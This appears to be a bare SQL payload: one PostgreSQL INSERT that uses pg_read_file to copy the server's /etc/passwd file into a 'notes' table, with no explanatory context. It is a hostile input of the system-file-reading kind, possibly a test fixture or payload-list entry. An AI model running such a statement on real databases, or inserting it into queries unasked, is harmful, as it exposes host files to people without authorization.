INSERT INTO notes (body) VALUES (pg_read_file('/etc/passwd'))
